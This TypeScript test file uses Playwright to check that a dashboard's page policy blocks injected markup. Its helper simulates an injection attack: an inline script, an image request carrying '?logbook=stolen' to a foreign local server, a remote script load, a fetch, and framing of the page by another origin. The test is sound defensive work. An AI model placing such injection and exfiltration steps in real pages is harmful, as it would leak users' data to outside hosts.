import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Guard } from '../../dashboard/server/guards.js';
import { listen } from '../../dashboard/server/index.js';
import { builtPageFolder } from '../../dashboard/server/page-files.js';
import { enterTwoBuilds, openBench } from '../dashboard/server-fixture.js';
import { leaveBrowser, openPage, sharedBrowser } from './dashboard-in-browser.js';

let browser: Browser;
/** Some other server, which the page has no business with. */
let elsewhere: Server;
let address: string;
let reached: string[];
/** What the other server answers at /frame. */
let frame = '';

beforeAll(async () => {
  browser = await sharedBrowser();
  elsewhere = createServer((request, response) => {
    reached.push(request.url!);
    response.setHeader('content-type', request.url === '/frame' ? 'text/html' : 'text/javascript');
    response.end(request.url === '/frame' ? frame : '');
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  address = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await leaveBrowser(browser);
  elsewhere?.close();
});

/** What somebody achieves who has got markup of theirs into the page. */
async function injected(away: readonly Guard[]) {
  reached = [];
  const bench = openBench({ pageFolder: builtPageFolder() }, away);
  enterTwoBuilds(bench.logbook, 1);
  const own = await listen(bench.server, 0);
  const { page, complaints } = await openPage(browser, 'desktop', 'light');
  await page.goto(`${own}builds`);
  await page.locator('h1').first().waitFor();
  const ranInline = await page.evaluate(async (outside) => {
    const settled = (element: HTMLElement) =>
      new Promise((resolve) => {
        element.onload = resolve;
        element.onerror = resolve;
        document.body.append(element);
      });
    const inline = document.createElement('script');
    inline.textContent = 'window.isTaken = true';
    document.body.append(inline);
    await settled(Object.assign(new Image(), { src: `${outside}/picture?logbook=stolen` }));
    await settled(Object.assign(document.createElement('script'), { src: `${outside}/script` }));
    await fetch(`${outside}/fetch`, { mode: 'no-cors' }).catch(() => {});
    return (window as { isTaken?: boolean }).isTaken === true;
  }, address);
  const achieved = { ranInline, reached: [...reached].sort() };

  frame = `<iframe src="${own}builds"></iframe>`;
  await page.goto(`${address}/frame`);
  const inside = page.frames()[1]!;
  await inside.waitForLoadState();
  const isFramed = (await inside.content()).includes('id="app"');
  await page.close();
  await bench.close();
  return { ...achieved, isFramed, complained: complaints.length > 0 };
}

it('markup that got into the page runs a script, tells others and is put into a frame: only without its policy', async () => {
  expect(await injected(['page-policy'])).toEqual({
    ranInline: true,
    reached: ['/fetch', '/picture?logbook=stolen', '/script'],
    isFramed: true,
    complained: false,
  });
  expect(await injected([])).toEqual({
    ranInline: false,
    reached: [],
    isFramed: false,
    complained: true,
  });
});
